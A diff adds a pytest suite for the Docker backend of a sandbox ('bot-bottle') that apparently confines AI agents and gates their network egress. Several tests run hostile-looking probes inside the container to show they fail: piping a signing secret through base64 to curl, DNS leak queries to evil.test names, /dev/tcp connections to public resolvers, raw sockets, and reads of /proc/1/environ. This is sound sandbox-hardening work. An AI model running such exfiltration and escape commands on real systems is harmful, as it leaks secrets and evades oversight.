@@ -1,0 +1,291 @@
+# SPDX-License-Identifier: Apache-2.0
+"""The legacy backend, with a real engine that this file starts: docker is chosen by name, and what
+holds in a micro-VM holds in a container, as far as a container can hold anything."""
+import json
+import os
+import re
+import signal
+import socket
+import subprocess
+import time
+
+import pytest
+
+import product as products
+from conftest import Evidence
+
+TYPES = "A AAAA NS MX TXT SRV HTTPS CAA NULL ANY TYPE65534".split()
+# A flow header to gate's socket, past our own relay
+RAW_FLOW = r'''
+import socket, struct, ipaddress
+def flow(addr, port):
+    a = ipaddress.ip_address(addr)
+    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    s.settimeout(15)
+    s.connect("/bottle/6003")
+    s.sendall(struct.pack(">HBBBBH16s", 0x4246, 1, a.version, 6, 0, port, a.packed.ljust(16, b"\0")))
+    r = s.recv(4)
+    return r[0] if r else -1
+'''
+
+
+class Engine:
+    """dockerd with a socket and directories of its own, no bridge and no rules in the host's firewall."""
+
+    def __init__(self, workdir, gid):
+        self.dir = workdir + "/engine"
+        os.makedirs(self.dir)
+        self.host = "unix://%s/docker.sock" % self.dir
+        self.log = open(self.dir + "/log", "wb")
+        self.proc = subprocess.Popen(
+            ["dockerd", "--host", self.host, "--data-root", self.dir + "/data", "--exec-root", self.dir + "/exec",
+             "--pidfile", self.dir + "/pid", "--group", str(gid), "--iptables=false", "--ip6tables=false",
+             "--bridge=none", "--ip-forward=false", "--ip-masq=false"],
+            stdout=self.log, stderr=self.log, stdin=subprocess.DEVNULL, start_new_session=True)
+        end = time.time() + 60
+        while self.docker("version").returncode != 0:
+            assert time.time() < end and self.proc.poll() is None, open(self.dir + "/log").read()[-3000:]
+            time.sleep(0.2)
+
+    def docker(self, *args):
+        return subprocess.run(["docker", "--host", self.host] + list(args), stdout=subprocess.PIPE,
+                              stderr=subprocess.PIPE, text=True)
+
+    def containers(self):
+        return self.docker("ps", "--all", "--quiet").stdout.split()
+
+    def pid_of(self, name):
+        return int(self.docker("inspect", "--format", "{{.State.Pid}}", name).stdout)
+
+    def close(self):
+        self.proc.send_signal(signal.SIGTERM)
+        try:
+            self.proc.wait(30)
+        except subprocess.TimeoutExpired:
+            self.proc.kill()
+            self.proc.wait()
+        self.log.close()
+        subprocess.run(["sh", "-c", 'umount -R "$0"/exec/netns/* "$0"/data/*/*/merged "$0"/data 2>/dev/null; rm -rf "$0"',
+                        self.dir], stderr=subprocess.DEVNULL)
+
+
+@pytest.fixture(scope="module")
+def engine(workdir):
+    e = Engine(workdir, products.make_user().pw_gid)
+    yield e
+    e.close()
+
+
+@pytest.fixture(scope="module")
+def dproduct(product, engine):
+    """The same installation, told by its environment to use docker."""
+    old = dict(product.env)
+    product.env.update(BOT_BOTTLE_BACKEND="docker", DOCKER_HOST=engine.host)
+    yield product
+    product.env = old
+
+
+@pytest.fixture(scope="module")
+def dbottle(dproduct):
+    b = dproduct.bottle("--bottle", "demo")
+    yield b
+    b.close()
+
+
+@pytest.fixture
+def devidence(internet, dbottle):
+    return Evidence(internet, dbottle)
+
+
+def test_it_is_a_container(dbottle, engine):
+    assert dbottle.status()["backend"] == "docker"
+    config = json.loads(engine.docker("inspect", dbottle.identity).stdout)[0]
+    assert config["HostConfig"]["NetworkMode"] == "none" and config["HostConfig"]["CapDrop"] == ["ALL"]
+    assert config["Config"]["Labels"]["bot-bottle"] == dbottle.identity
+    # what it shares with the host: the sockets of gate and its own settings, nothing writable
+    assert all(not m["RW"] for m in config["Mounts"]), config["Mounts"]
+    outside = [m["Source"] for m in config["Mounts"] if not m["Source"].endswith(("/bottle", "/bb-guest"))
+               and os.path.dirname(m["Source"]).rsplit("/", 1)[1] != "bottle"]
+    assert outside == []
+    r = dbottle.sh("id -un; hostname; grep -E 'CapEff|CapBnd|NoNewPrivs' /proc/self/status; ls /sys/class/net")
+    assert r.out.decode().split() == ["node", dbottle.identity, "CapEff:", "0" * 16, "CapBnd:", "0" * 16,
+                                      "NoNewPrivs:", "1", "lo"], r
+    assert dbottle.exec("sudo", "-n", "id").code != 0
+    # the guest program runs as the same user, and yet keeps what it knows to itself
+    r = dbottle.sh("cat /proc/1/environ >/dev/null || echo no; head -c1 /proc/1/mem >/dev/null || echo no; "
+                   "ls /proc/1/fd >/dev/null || echo no; kill -9 1; kill -STOP 1; echo still here")
+    assert r.out == b"no\nno\nno\nstill here\n", r
+
+
+def test_docker_exec_and_copies(dproduct, dbottle, workdir):
+    r = dbottle.sh("echo out; echo err >&2; exit 7")
+    assert (r.code, r.out, r.err) == (7, b"out\n", b"err\n"), r
+    assert dbottle.exec("no-such-command-here").code == 127
+    assert dbottle.exec("wc", "-c", input=b"x" * 3000000).out.split() == [b"3000000"]
+    assert len(dbottle.sh("head -c 20000000 /dev/zero").out) == 20000000
+    many = [dproduct.popen("exec", dbottle.identity, "--", "sh", "-c", "sleep 1; echo %d" % i) for i in range(12)]
+    assert [p.communicate(timeout=60)[0] for p in many] == [b"%d\n" % i for i in range(12)]
+    assert dbottle.sh("echo $GREETING; touch /workspace/f /tmp/f ~/f && echo ok").out == b"from the manifest\nok\n"
+    path = dproduct.home + "/copied"
+    open(path, "wb").write(b"back and forth")
+    dproduct._own()
+    assert dproduct.run("cp", path, dbottle.identity + ":/workspace/back").code == 0
+    assert dbottle.sh("cat /workspace/back").out == b"back and forth"
+    assert dproduct.run("cp", dbottle.identity + ":/workspace/back", dproduct.home).code == 0
+    assert open(dproduct.home + "/back", "rb").read() == b"back and forth"
+
+
+def test_docker_allowed_host_through_proxy(dbottle, devidence):
+    devidence.control()
+    r = dbottle.sh("curl -sS -m 20 http://allowed.test/hello; curl -sS -m 20 https://wild.zone.test/hello")
+    assert r.out == b"hello from the world\n" * 2, r
+    r = dbottle.py("import urllib.request as u; print(u.urlopen('https://allowed.test/hello').read())")
+    assert r.out == b"b'hello from the world\\n'\n", r
+    kinds = [(x["kind"], x["verdict"]) for x in devidence.new_records() if x.get("host") == "allowed.test"]
+    assert ("verdict", "allow") in kinds and any(k == "end" for k, _ in kinds), kinds
+
+
+def test_docker_same_host_direct_denied(dbottle, devidence):
+    synthetic = dbottle.sh("dig +short allowed.test").out.decode().strip()
+    assert synthetic.startswith("198.1")
+    for target in ("allowed.test", "203.0.113.10", synthetic):
+        for scheme in ("http", "https"):
+            r = dbottle.sh("env -i PATH=$PATH curl -k -sS -m 15 %s://%s/hello" % (scheme, target))
+            assert r.code != 0 and b"hello" not in r.out, (target, r)
+    r = dbottle.py(RAW_FLOW + "print(flow('203.0.113.10', 443), flow(%r, 443), flow('8.8.8.8', 53), flow('127.0.0.1', 22))"
+                   % synthetic)
+    assert r.out == b"1 1 1 1\n", r
+    devidence.nothing_left()
+    devidence.denied(kind="flow", reason="synthetic_direct")
+    devidence.denied(kind="flow", reason="default_deny")
+    devidence.denied(kind="flow", reason="floor")
+    assert dbottle.py(RAW_FLOW + "print(flow('203.0.113.20', 7000))").out == b"0\n"
+    devidence.control()
+
+
+def test_docker_unlisted_host_through_proxy_denied(dbottle, devidence):
+    for url in ("https://denied.test/", "http://denied.test/", "https://203.0.113.12/", "http://3405803788/"):
+        r = dbottle.sh("curl -k -sS -m 15 -o /dev/null -w '%%{http_connect} %%{http_code}' %s" % url)
+        assert b"403" in r.out, (url, r)
+    devidence.nothing_left()
+    devidence.denied(kind="verdict", host="denied.test", reason="not_listed")
+    devidence.control()
+
+
+def test_docker_no_dns(dbottle, devidence, internet):
+    """No resolver answers but ours: not the engine's, not a hard-coded one, not over TCP, TLS or HTTPS."""
+    script = "".join("echo %s $(dig +tries=1 +time=5 %s secret-%s.evil.test %s | grep -o 'status: [A-Z]*');" % (
+        t, proto, t.lower(), t) for t in TYPES for proto in ("+notcp", "+tcp"))
+    got = dbottle.sh(script, timeout=240).out.decode().splitlines()
+    assert len(got) == 2 * len(TYPES) and all("NXDOMAIN" in l for l in got), got
+    for server in ("127.0.0.11", "8.8.8.8", "1.1.1.1", "203.0.113.53"):
+        for proto in ("+notcp", "+tcp"):
+            r = dbottle.sh("dig +tries=1 +time=2 %s @%s leak.evil.test; echo $?" % (proto, server))
+            assert b"status:" not in r.out and r.out.split()[-1] != b"0", (server, r)
+    r = dbottle.sh("for p in 53 853 443; do for a in 8.8.8.8 1.1.1.1; do timeout 5 bash -c "
+                   "\"exec 3<>/dev/tcp/$a/$p; echo x >&3; head -c1 <&3\" 2>/dev/null && echo through; done; done; true")
+    assert b"through" not in r.out, r
+    r = dbottle.py("import socket\nfor f in (socket.AF_INET, socket.AF_INET6):\n"
+                   "  for a in ('8.8.8.8', '2001:4860:4860::8888'):\n"
+                   "    try: socket.socket(f, socket.SOCK_DGRAM).sendto(b'leak', (a, 53)); print('sent')\n"
+                   "    except OSError: pass\n"
+                   "try: socket.socket(socket.AF_PACKET, socket.SOCK_RAW); print('raw')\nexcept OSError: pass\n"
+                   "try: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); print('icmp')\nexcept OSError: pass\n")
+    assert (r.code, r.out) == (0, b""), r
+    r = dbottle.sh("dig +short allowed.test; dig +short allowed.test; dig allowed.test TXT | grep -o 'ANSWER: [0-9]*'")
+    first, again, _, none = r.out.decode().split()
+    assert first == again and first.startswith("198.1") and none == "0", r
+    devidence.nothing_left()
+    assert not any("evil" in q or "leak" in q for q in internet.queries())
+    devidence.denied(kind="dns", reason="not_listed")
+    devidence.control()
+
+
+def test_docker_known_secret_does_not_leave(dbottle, devidence):
+    r = dbottle.sh("printenv DEPLOY_SIGNING_SECRET | base64 | curl -sS -m 20 -d @- https://allowed.test/hello")
+    assert json.loads(r.out)["reason"] == "canary", r
+    devidence.denied(kind="verdict", reason="canary")
+    devidence.control()
+
+
+@pytest.mark.parametrize("role", ["gate", "egress", "dialer", "keyd", "recorder", "vmm", "bottled"])
+def test_docker_guard_death_ends_the_container(dproduct, engine, role):
+    b = dproduct.bottle("--bottle", "demo")
+    try:
+        pids = b.status()["pids"]
+        inside = engine.pid_of(b.identity)
+        assert products.alive(inside)
+        os.kill(pids[role], signal.SIGKILL)
+        end = time.time() + 1.0
+        while time.time() < end and (products.alive(inside) or any(products.alive(p) for r, p in pids.items()
+                                                                   if r != "bottled")):
+            time.sleep(0.02)
+        left = {r: p for r, p in pids.items() if r != "bottled" and products.alive(p)}
+        assert left == {} and not products.alive(inside), (left, inside)
+        assert b.proc.wait(20) == 125
+        end = time.time() + 20
+        while b.identity in engine.docker("ps", "--all", "--format", "{{.Names}}").stdout and time.time() < end:
+            time.sleep(0.1)
+        assert b.identity not in engine.docker("ps", "--all", "--format", "{{.Names}}").stdout
+        assert [x for x in dproduct.list() if x["identity"] == b.identity][0]["status"] == "ended"
+    finally:
+        b.close()
+
+
+def test_docker_run_leaves_nothing(dproduct, dbottle, engine):
+    before = set(engine.containers())
+    r = dproduct.run("run", "--", "sh", "-c", "echo out; exit 3")
+    assert (r.code, r.out) == (3, b"out\n") and b"shares this host's kernel" in r.err, r
+    assert set(engine.containers()) == before
+    # bottled that was killed could not clean up: cleanup does, and touches no live one
+    def left():
+        return subprocess.run(["find", dproduct.home, "-name", "config.json"], stdout=subprocess.PIPE).stdout.splitlines()
+    live = [b["identity"].encode() for b in dproduct.list() if b["status"] == "up"]
+    assert len(live) == 1 and len(left()) == 2, left()
+    assert dproduct.run("cleanup", "--older-than", "0", "--yes").code == 0
+    assert len(left()) == 1 and live[0] in left()[0], left()
+    assert dbottle.sh("echo alive").out == b"alive\n"
+
+
+def test_docker_images(dproduct, engine):
+    tag = [l for l in engine.docker("images", "--format", "{{.Repository}}:{{.Tag}}").stdout.split()
+           if l.startswith("bot-bottle/base:")][0]
+    r = dproduct.run("run", "--image", tag, "--", "echo", "by its engine's name")
+    assert r.out == b"by its engine's name\n", r
+    r = dproduct.run("run", "--image", "no-such-image", "--", "true")
+    assert r.code == 1 and b"neither ours" in r.err and b"image build" in r.err, r
+
+
+def test_docker_is_missing(dproduct, workdir):
+    """Each way in which an engine can be missing has its own words, and nothing else is started."""
+    r = dproduct.run("run", "--", "true", env={"PATH": "/nonexistent"})
+    assert r.code == 1 and b"neither docker nor podman" in r.err and b"apt-get install" in r.err, r
+    r = dproduct.run("run", "--", "true", env={"DOCKER_HOST": "unix:///nonexistent/docker.sock"})
+    assert r.code == 1 and b"not running" in r.err and b"systemctl start docker" in r.err, r
+    path = workdir + "/closed.sock"
+    s = socket.socket(socket.AF_UNIX)
+    s.bind(path)
+    s.listen(1)
+    os.chmod(path, 0o600)
+    r = dproduct.run("run", "--", "true", env={"DOCKER_HOST": "unix://" + path})
+    assert r.code == 1 and b"no permission" in r.err and b"group" in r.err, r
+    s.close()
+
+
+def test_docker_default_not_used(product, workdir):
+    """Nobody calls an engine that was not asked for by name, also when the default cannot run."""
+    fake = workdir + "/fake-engine"
+    os.makedirs(fake, exist_ok=True)
+    for name in ("docker", "podman"):
+        open(fake + "/" + name, "w").write("#!/bin/sh\necho called >>%s/called\nexit 1\n" % fake)
+        os.chmod(fake + "/" + name, 0o755)
+    os.chmod(fake, 0o777)
+    base = {"BOT_BOTTLE_BACKEND": "", "DOCKER_HOST": ""}
+    r = product.run("run", "--", "echo", "in a machine", env=dict(base, PATH=fake + ":/usr/sbin:/usr/bin:/sbin:/bin"))
+    assert r.out == b"in a machine\n", r
+    r = product.run("run", "--", "true", env=dict(base, PATH=fake))
+    assert r.code == 1 and re.search(rb"--backend=docker.*legacy", r.err), r
+    assert not os.path.exists(fake + "/called")
+    # the control: asked for by name, it is called
+    r = product.run("run", "--backend=docker", "--", "true", env=dict(base, PATH=fake + ":/usr/bin:/bin"))
+    assert r.code == 1 and os.path.exists(fake + "/called"), r
